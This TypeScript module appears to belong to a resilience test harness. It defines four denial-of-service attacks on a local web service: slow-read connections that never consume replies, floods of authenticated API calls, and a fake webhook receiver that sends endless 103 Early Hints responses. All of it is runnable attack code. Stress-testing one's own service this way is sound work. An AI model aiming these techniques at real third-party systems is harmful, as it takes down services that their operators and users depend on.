/** The attacks. Each loads one service of this machine until its process ends. */
import { connect, createServer } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

export type Target = {
  readonly url: string;
  /** Of a session of an owner. */
  readonly cookie: string;
  readonly orderId: string;
  readonly endpointId: string;
  readonly receiverPort: number;
  /** Paths of files that anybody can get. */
  readonly files: readonly string[];
};

export const attackLoads = {
  'replies that are not read': '405 connections, files requested and never read',
  'tests of an endpoint': '450 at a time, the receiver never answers',
  'why of a large order': '80 at a time, 2,500 deliveries',
  'endless 1xx responses': 'of a receiver, to every event',
} as const;

export type AttackName = keyof typeof attackLoads;

export const attacks: Readonly<Record<AttackName, (target: Target) => unknown>> = {
  'replies that are not read': ({ url, files }) => {
    const { hostname, port } = new URL(url);
    // More than the buffers of the system for one connection.
    const requests = files
      .map((path) => `GET ${path} HTTP/1.1\r\nHost: ${hostname}\r\n\r\n`)
      .join('')
      .repeat(8);
    const open = () => {
      const socket = connect(Number(port), hostname, () => socket.write(requests));
      socket.on('error', () => {});
      socket.pause();
    };
    for (let count = 0; count < 405; count += 1) open();
  },
  'tests of an endpoint': (target) => {
    // It accepts the connection and says nothing.
    createServer(() => {}).listen(target.receiverPort, '127.0.0.1');
    const path = `/dashboard/api/endpoints/${target.endpointId}/test`;
    repeat(450, () => call(target, 'POST', path));
  },
  'why of a large order': (target) => {
    repeat(80, () => call(target, 'GET', `/dashboard/api/orders/${target.orderId}/why`));
  },
  'endless 1xx responses': ({ receiverPort }) => {
    const hints = 'HTTP/1.1 103 Early Hints\r\nlink: </a>\r\n\r\n'.repeat(500);
    createServer((socket) => {
      socket.on('error', () => {});
      const send = () => {
        while (!socket.destroyed && socket.write(hints));
      };
      socket.on('drain', send);
      socket.once('data', send);
      socket.resume();
    }).listen(receiverPort, '127.0.0.1');
  },
};

function repeat(count: number, call: () => Promise<unknown>): void {
  const run = async () => {
    for (;;) await call();
  };
  for (let one = 0; one < count; one += 1) run();
}

async function call({ url, cookie }: Target, method: string, path: string): Promise<void> {
  const headers = { cookie, origin: new URL(url).origin };
  await fetch(`${url}${path}`, { method, headers }).then(
    (response) => response.arrayBuffer(),
    () => undefined,
  );
  // A refused call costs next to nothing, and so must the attack.
  await delay(50);
}
